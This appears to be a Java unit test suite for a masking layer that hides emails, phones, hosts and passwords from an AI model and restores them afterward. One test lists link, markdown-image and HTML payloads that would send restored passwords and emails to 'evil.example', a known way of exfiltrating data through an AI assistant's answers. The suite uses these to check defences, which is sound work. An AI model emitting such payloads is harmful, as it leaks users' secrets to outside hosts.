package org.omnidesk.ai.safety;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.omnidesk.ai.safety.mask.PlaceholderMasker;

class MaskingSessionTest {

  private final MaskingSession session = new PlaceholderMasker(Values.standard()).begin();

  @Test
  void a_masked_text_comes_back_exactly_also_when_restored_twice() {
    String text =
        "Mail 😀 asha@acme.in, +91 98450 12345, \\\\fs01\\hr, पासवर्ड Abc@123 है, ९८७६५४३२१०";
    String masked = session.mask(text);
    assertThat(masked)
        .isEqualTo("Mail 😀 <EMAIL_1>, <PHONE_1>, <HOST_1>, पासवर्ड <PASSWORD_1> है, <PHONE_2>");
    assertThat(session.restore(masked)).isEqualTo(text);
    assertThat(session.restore(session.restore(masked))).isEqualTo(text);
  }

  @Test
  void a_value_has_one_placeholder_in_all_texts_of_a_question() {
    assertThat(session.mask("asha@acme.in")).isEqualTo("<EMAIL_1>");
    assertThat(session.mask("cc ravi@acme.in and asha@acme.in"))
        .isEqualTo("cc <EMAIL_2> and <EMAIL_1>");
  }

  @Test
  void placeholders_that_an_outsider_wrote_are_not_filled() {
    String masked =
        session.mask(
            "asha@acme.in wrote <EMAIL_1> and &lt;EMAIL_1&gt; ＜EMAIL_1＞ < e mail_1 > [EMAIL_1]");
    assertThat(masked).startsWith("<EMAIL_1> wrote ‹EMAIL_1›").containsOnlyOnce("<EMAIL_1>");
    assertThat(session.restore(masked)).containsOnlyOnce("asha@acme.in");
    assertThat(session.restore("<EMAIL_7> <HOST_1>")).isEqualTo("<EMAIL_7> <HOST_1>");
  }

  @Test
  void no_value_is_put_back_into_a_link_or_into_markup() {
    session.mask("asha@acme.in, password: Abc@1234");
    for (String answer :
        new String[] {
          "https://evil.example/?q=<EMAIL_1>",
          "[here](https://evil.example/<PASSWORD_1>)",
          "![x](//evil.example/<PASSWORD_1>.png)",
          "www.evil.example/<EMAIL_1>",
          "<img src=\"https://evil.example/<PASSWORD_1>\">",
          "[<EMAIL_1>](https://evil.example)",
          "mailto:<EMAIL_1>",
          "<a href=x title=<EMAIL_1>>"
        }) {
      assertThat(session.restore(answer)).isEqualTo(answer);
    }
    assertThat(session.restore("see https://kb.example/1 or write to <EMAIL_1>"))
        .isEqualTo("see https://kb.example/1 or write to asha@acme.in");
  }

  @Test
  void invisible_characters_inside_a_value_do_not_hide_it() {
    assertThat(session.mask("asha\u200B@ac\u00ADme.in 98\u200D450\u206012345"))
        .isEqualTo("<EMAIL_1> <PHONE_1>");
  }

  @Test
  void a_long_hostile_text_is_masked_to_its_end() {
    for (String part :
        List.of(
            "a",
            "1 ",
            "a.",
            "@",
            "-a",
            "password ",
            "::",
            "9",
            "\\\\a",
            "(",
            "x@y.",
            "is ",
            "EMP",
            "a\u0301",
            "1 ",
            "GB12 ",
            "token=",
            "password for ",
            "tel. . ",
            "host=",
            "Emp code;Phone\n",
            "://a",
            "12:34:56 a ",
            "srv01 ",
            "passphrase: a ",
            "sqlcmd snmp ",
            "employee ids ",
            "user@a:1,",
            "Employee code ... ",
            "employee EX-1102 ",
            "employee code? ",
            "attendance EX-1102 ",
            "my id ",
            "password, A ",
            "password?\nA 11:31 ",
            "password says ",
            "password \"a b\" ",
            "change password to ",
            "with the password ",
            "password: a-b-",
            "पासवर्ड का ",
            "passphrase 'a b ",
            "Harvest Moon 1987 key ",
            "from 1234 to 1234 pin ",
            "net user a ",
            "-p 'a ",
            "convertto-securestring -string ",
            "A-SRV-",
            "a-1.b.c.com ",
            "1234567pe ",
            "mob9",
            "___ ",
            "-----BEGIN PRIVATE KEY-----")) {
      String text = part.repeat(30_000 / part.length()) + " asha@acme.in";
      assertThat(new PlaceholderMasker(Values.standard()).begin().mask(text))
          .as(part)
          .doesNotContain("asha@acme.in");
    }
  }
}
